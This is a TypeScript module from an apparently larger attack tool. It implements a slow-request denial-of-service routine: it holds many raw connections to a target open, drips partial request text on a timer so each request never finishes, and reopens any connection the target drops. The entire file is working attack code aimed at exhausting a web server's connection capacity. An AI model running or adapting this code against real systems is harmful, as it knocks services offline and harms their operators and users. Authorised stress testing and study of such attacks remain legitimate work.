import type { Socket } from "node:net";
import { Answers } from "./answers.ts";
import type { AttackContext } from "./contract.ts";
import { keepOpen } from "./keep-open.ts";
import { RawConnections } from "./raw-connections.ts";

export interface Drip {
  /** How a connection begins. */
  readonly first: () => string;
  /** What is said on it again and again, so that it is never silent for long. */
  readonly more: () => string;
  readonly everyMs: number;
}

/** Looks so often who is to say something. */
const lookMs = 100;

/** Keeps connections open on which a request comes a little at a time and never ends; those that the target ends are made again. */
export async function drip(context: AttackContext, { first, more, everyMs }: Drip): Promise<void> {
  const { counts, signal } = context;
  const connections = new RawConnections(context);
  /** When each says something next; the first to come is the first in it. */
  const next = new Map<Socket, number>();
  const timer = setInterval(() => {
    const now = performance.now();
    for (const [socket, at] of next) {
      if (at > now) break;
      next.delete(socket);
      if (socket.destroyed || !socket.writable) continue;
      counts.bytesSent += write(socket, more());
      next.set(socket, now + everyMs);
    }
  }, lookMs);
  signal.addEventListener("abort", () => clearInterval(timer), { once: true });
  await keepOpen(context, connections, () => {
    const answers = new Answers(counts);
    let its: Socket | undefined;
    connections.open({
      opened: (socket) => {
        its = socket;
        connections.send(socket, first());
        next.set(socket, performance.now() + everyMs);
      },
      data: (bytes) => answers.read(bytes),
      gone: () => its && next.delete(its),
    });
  });
  clearInterval(timer);
}

function write(socket: Socket, text: string): number {
  socket.write(text, "latin1");
  return text.length;
}
